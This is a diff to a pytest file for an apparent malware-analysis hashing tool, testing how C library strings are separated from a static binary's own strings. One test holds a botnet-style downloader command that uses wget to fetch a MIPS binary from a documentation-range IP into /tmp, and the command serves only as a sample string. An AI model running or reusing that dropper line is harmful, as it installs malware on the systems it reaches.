@@ -16,6 +16,7 @@ import sys
 from pathlib import Path
 
 import corpus
+import numpy as np
 import pytest
 
 import telfhash_core as tc
@@ -92,6 +93,61 @@ def test_toolchain_strings_come_out_of_a_static_program():
         left = tx2.program_strings(raw, tcd.shipped())
         assert len(raw) > 900 and len(left) < 0.05 * len(raw), (arch, len(raw), len(left))
         assert creds <= {s.decode() for s in left}, arch
+
+
+def _toolchain_of(strings: list[bytes]) -> tcd.ToolchainData:
+    """Toolchain data holding exactly ``strings`` (one made-up C library)."""
+    keys = tcd.string_keys(strings)
+    ones = np.ones(keys.size, dtype=np.uint64)
+    return tcd.ToolchainData(keys, ones, ones.astype(np.uint32), {"libcs": ["libc"], "kinds": ["libc.a"]})
+
+
+LIBC = [f"C library message number {i}: something failed".encode() for i in range(40)]
+PROGRAM = [f"usage: tool option {w} [file ...]".encode() for w in "abcdefghijklmnopqrst"]
+
+
+def test_strings_after_the_c_library_begins_are_its_own():
+    """A static link lays out the program's strings, then its C library's: a C library string
+    that no derived toolchain has (another CPU's) sits among known ones and goes with them;
+    the program's own strings, before that point, all stay."""
+    leftovers = [b"set_thread_area failed when setting up thread-local storage\n", b"Too many processes"]
+    seq = PROGRAM + LIBC[:10] + leftovers[:1] + LIBC[10:30] + leftovers[1:] + LIBC[30:]
+    data = _toolchain_of(LIBC)
+    assert tx2.program_strings(seq, data) == PROGRAM
+    # unknown to the data, the leftovers would otherwise stay
+    assert set(leftovers) <= set(tx2.program_strings(PROGRAM + LIBC + leftovers, None))
+
+
+def test_a_program_laid_out_after_its_c_library_loses_nothing():
+    """Sections sorted by alignment (busybox) put the C library's tables first: with many
+    unknown strings after the first known run, nothing is cut."""
+    many = [f"applet {i}: it did what was asked of it".encode() for i in range(tx2.MAX_LEFTOVERS + 1)]
+    data = _toolchain_of(LIBC)
+    assert tx2.program_strings(LIBC[:20] + many + LIBC[20:], data) == many
+    # a program's own strings that the C library also has (month names) do not start the cut,
+    # in the middle of its strings or before them
+    months = [b"January", b"February", b"March", b"April", b"May", b"June", b"July", b"August"]
+    data = _toolchain_of(LIBC + months)
+    assert tx2.program_strings(PROGRAM[:3] + months[:4] + PROGRAM[3:] + LIBC, data) == PROGRAM
+    assert tx2.program_strings(months + PROGRAM + LIBC, data) == PROGRAM
+
+
+def test_bare_words_do_not_change_the_unit():
+    """CPU feature names (arm64's falkor, thunderx2t99) are bare words: they go before the
+    count that chooses words or whole strings, so a C library with more of them does not
+    switch a program to the other unit."""
+    strings = PROGRAM[:12]
+    features = [b"falkor", b"thunderx2t99", b"kunpeng920", b"generic", b"emag", b"a64fx"]
+    assert tx2.string_tokens(strings + features) == tx2.string_tokens(strings)
+    assert tx2.string_tokens(strings) == tx2.words([s.decode() for s in strings])
+
+
+def test_shell_commands_are_program_strings():
+    """``&&`` and ``||`` are in a downloader's shell command as much as in an assertion:
+    only ``->``, ``==`` and ``!=`` mark the C library's assertion expressions."""
+    cmd = b"cd /tmp && wget http://198.51.100.7/bins/mips -O .x || busybox wget http://198.51.100.7/x"
+    assertion = b"l->l_relocated || l->l_type == lt_executable"
+    assert tx2.program_strings([cmd, assertion], _toolchain_of(LIBC)) == [cmd]
 
 
 # ----------------------------------------------------------------------------- rules
@@ -265,6 +321,17 @@ def test_index_searches_one_rule_set_and_recomputes_tx1_as_tx2(tmp_path):
     assert json.loads(out.stdout) == {"old": 1, "recomputed": 0, "no_value": 0, "missing": 1, "changed": 0}
     with sqlite3.connect(db) as c:
         assert c.execute("SELECT count(*) FROM entries WHERE telfhash_x LIKE 'tx2:%'").fetchone()[0] == 2
+        # a tx2 value from older tx2 rules (here: another file's) is redone only with --all
+        c.execute(
+            "UPDATE entries SET telfhash_x = ? WHERE sha256 = ?",
+            (rows[2]["telfhash_x"].replace("tx1:", "tx2:strings:"), rows[0]["sha256"]),
+        )
+    with Index(db) as ix:
+        assert ix.recompute_x()["old"] == 1  # only the tx1 row whose file is gone
+        counts = ix.recompute_x(all_rows=True)
+        assert counts == {"old": 3, "recomputed": 2, "no_value": 0, "missing": 1, "changed": 0}
+        stored = {e["sha256"]: e["telfhash_x"] for e in ix.entries()}
+        assert stored[rows[0]["sha256"]] == cx.telfhash_x_of(Path(paths[0]).read_bytes())
 
 
 def test_hostile_strings_are_bounded():
